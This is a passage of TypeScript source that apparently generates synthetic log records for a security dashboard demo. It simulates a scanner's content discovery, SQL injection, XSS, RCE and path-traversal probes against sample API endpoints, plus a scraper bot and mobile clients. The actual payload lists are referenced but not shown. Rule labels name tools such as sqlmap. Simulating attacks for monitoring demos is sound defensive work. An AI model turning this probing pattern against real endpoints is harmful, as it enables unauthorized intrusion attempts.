  const shop: Conn = { ...c, host: DEMO.shopHost, app: 'shop' };
  const scale = Math.min(1, (span * 0.25) / (600 * 1_500));
  let t = b.start + span * 0.7;
  const step = () => (t += rng.int(200, 2_800) * scale);
  // Phase 1: content discovery (the "scanner" attack type), on both hosts.
  const paths: string[] = [];
  for (const p of SCAN_PREFIXES) for (const w of SCAN_WORDS) paths.push(`${p}/${w}`);
  for (const path of paths) {
    const blocked = rng.chance(0.15);
    const found = !blocked && rng.chance(0.03);
    b.add('scanner', t, rng.chance(0.7) ? c : shop, {
      method: rng.chance(0.9) ? 'GET' : 'HEAD',
      path,
      status: blocked ? 403 : found ? 200 : 404,
      attacks: [{ type: 'scanner', blocked, rule: 'scanner-ua-sqlmap' }],
      blocked,
      duration_ms: blocked ? rng.lognormal(1.2, 0.3, 0.2, 8) : undefined,
    }, 'error');
    step();
  }
  // Phase 2: injection payloads on real endpoints.
  const targets = [
    ['/api/v1/products', 'category'],
    ['/api/v1/orders', 'status'],
    ['/api/v1/customers', 'email'],
    ['/api/v1/search', 'q'],
    ['/api/v1/reports', 'format'],
  ] as const;
  const kinds = [
    ['sqli', SQLI, 'sqli-generic-'],
    ['xss', XSS, 'xss-reflected-'],
    ['rce', RCE, 'rce-shell-'],
  ] as const;
  for (let k = 0; k < 220; k++) {
    const [ep, param] = rng.pick(targets);
    const [type, payloads, rulePrefix] = rng.pick(kinds);
    const blocked = rng.chance(0.55);
    b.add('scanner', t, c, {
      method: rng.chance(0.8) ? 'GET' : 'POST',
      path: `${ep}?${param}=${encodeURIComponent(rng.pick(payloads))}`,
      status: blocked ? 403 : rng.weighted([[400, 5], [200, 3], [500, 1]] as const),
      endpoint: ep,
      attacks: [{ type, blocked, rule: `${rulePrefix}${rng.int(100, 199)}` }],
      blocked,
      duration_ms: blocked ? rng.lognormal(1.5, 0.3, 0.2, 8) : rng.lognormal(60, 0.8, 5, 5_000),
    }, blocked ? 'error' : 'api');
    step();
  }
  // Phase 3: path traversal on the static file route.
  for (let k = 0; k < 40; k++) {
    const blocked = rng.chance(0.6);
    const payload = rng.pick(TRAVERSAL);
    b.add('scanner', t, shop, {
      method: 'GET',
      path: `/static/download?file=${encodeURIComponent(payload)}`,
      status: blocked ? 403 : rng.chance(0.8) ? 400 : 200,
      attacks: [{ type: 'path_traversal', blocked, rule: 'ptrav-dotdot' }],
      blocked,
    }, blocked ? 'error' : 'api');
    step();
  }
}

/** Scraper bot: crawls product pages fast, in two runs. */
function bot(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const c: Conn = {
    host: DEMO.shopHost,
    app: 'shop',
    client_ip: DEMO.botIp,
    user_agent: DEMO.botUa,
    node: nodeOf(),
    protocol: 'HTTP/1.1',
    bot: { ...DEMO.botVerdict },
  };
  for (const [frac, n] of [[0.12, 260], [0.82, 240]] as const) {
    let t = b.start + span * frac;
    const scale = Math.min(1, (span * 0.1) / (n * 700));
    for (let k = 0; k < n; k++) {
      const roll = rng.float();
      if (roll < 0.08) {
        b.add('bot', t, c, { method: 'GET', path: `/products?category=${rng.pick(CATEGORIES)}&page=${rng.int(1, 30)}`, status: 200 }, 'page');
      } else {
        const throttled = k > n - 25 && rng.chance(0.6);
        b.add('bot', t, c, { method: 'GET', path: `/products/${rng.int(1000, 1999)}`, status: throttled ? 429 : rng.chance(0.04) ? 404 : 200 }, throttled ? 'error' : 'page');
      }
      t += rng.int(150, 1_300) * scale;
    }
  }
}

/** Mobile backend-for-frontend that computes its own session id (`session_id` field). */
function mobile(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  for (let i = 0; i < 5; i++) {
    const c: Conn = {
      host: DEMO.mobileHost,
      app: 'mobile-bff',
      client_ip: rng.chance(0.5) ? ipv6(rng) : ipv4(rng),
      user_agent: rng.pick(['ShopApp/5.12.0 (iPhone; iOS 18.1; Scale/3.00)', 'ShopApp/5.12.0 (Android 14; Pixel 8)']),
      node: nodeOf(),
      protocol: 'HTTP/2',
      session_id: `m-${rng.hex(24)}`,
    };
    let t = b.start + rng.float() * span * 0.9;
    const n = rng.int(10, 30);
    for (let k = 0; k < n; k++) {
      const what = rng.pick(['/bff/home', '/bff/feed?cursor=' + rng.b64url(12), `/bff/products/${rng.int(1000, 1999)}`, '/bff/cart']);
      b.add('mobile', t, c, { method: 'GET', path: what, status: rng.chance(0.03) ? 503 : 200 });
      t += rng.lognormal(8_000, 0.8, 300, 120_000);
    }
  }
}

// ---------------------------------------------------------------------------------------------------------------

/** Generates the demo records with the actor that produced each one, sorted by time. */
export function generateDemoTagged(opts: DemoOptions): TaggedRecord[] {
  const seed = opts.seed ?? 42;
  const hours = opts.hours ?? 6;
  if (!Number.isFinite(opts.now)) throw new Error('generateDemo: `now` (epoch ms) is required');
  if (!(hours > 0)) throw new Error('generateDemo: `hours` must be > 0');
  const end = Math.floor(opts.now);
  const start = end - Math.round(hours * HOUR);
  const rng = new Rng(seed);
  const b = new Builder(rng, start, end);
  const nodeOf = () => rng.pick(NODES);

  browsingUsers(b, nodeOf);
  anonymousVisitors(b, nodeOf);
  jwtClient(b, nodeOf);
  slowReportUsers(b, nodeOf);
  loginFlows(b, nodeOf);
  partner(b, nodeOf);
  bruteForce(b, nodeOf);
  scanner(b, nodeOf);
  bot(b, nodeOf);
  mobile(b, nodeOf);

  const tagged = b.out
    .map((r, i) => ({ r, i }))
    .sort((x, y) => x.r.record.ts - y.r.record.ts || x.i - y.i)
    .map(({ r }) => r);
  // Ids: deterministic for (seed, now), unique within the run, different for another `now` (a later demo run adds
  // new data instead of being deduplicated away).
  const idRng = new Rng((seed ^ Math.floor(end / 1000)) >>> 0);
  const runTag = idRng.hex(8);
  tagged.forEach(({ record }, i) => {
    record.id = `demo-${runTag}-${i.toString(36).padStart(5, '0')}-${idRng.hex(6)}`;
  });
  return tagged;
}

/** Generates the demo records (see module comment), sorted by time. */
export function generateDemo(opts: DemoOptions): DemoRecord[] {
  return generateDemoTagged(opts).map((t) => t.record);
}

/** Number of records per actor. */
export function countByActor(tagged: readonly TaggedRecord[]): Record<Actor, number> {
  const counts = Object.fromEntries(ACTORS.map((a) => [a, 0])) as Record<Actor, number>;
  for (const t of tagged) counts[t.actor]++;
  return counts;
}
